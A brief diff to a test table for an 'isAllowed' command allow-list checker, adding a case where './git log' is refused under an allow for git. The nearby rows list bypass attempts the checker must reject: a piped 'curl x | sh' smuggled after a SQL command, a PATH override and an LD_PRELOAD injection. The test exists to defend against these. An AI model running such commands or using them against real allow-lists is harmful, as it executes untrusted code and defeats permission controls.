@@ -48,6 +48,7 @@ it.each([
   ['{ sql: { verbs: [SELECT] } }', "psql -c 'SELECT 1'", 'psql -c "SELECT $X"'],
   ['{ sql: { verbs: [SELECT] } }', "psql -c 'SELECT 1'", "psql -c 'SELECT 1'; curl x | sh"],
   ['{ command: { program: [ls] } }', 'ls -l', 'PATH=/tmp/evil ls -l'],
+  ['{ command: { program: [git] } }', 'git log', './git log'],
   ['{ command: { program: [ls] } }', 'ls', 'LD_PRELOAD=/tmp/x.so ls'],
 ])('an allow with %s holds for `%s`, and not for `%s`', (match, known, unknown) => {
   expect([isAllowed(match, known), isAllowed(match, unknown)]).toEqual([true, false]);
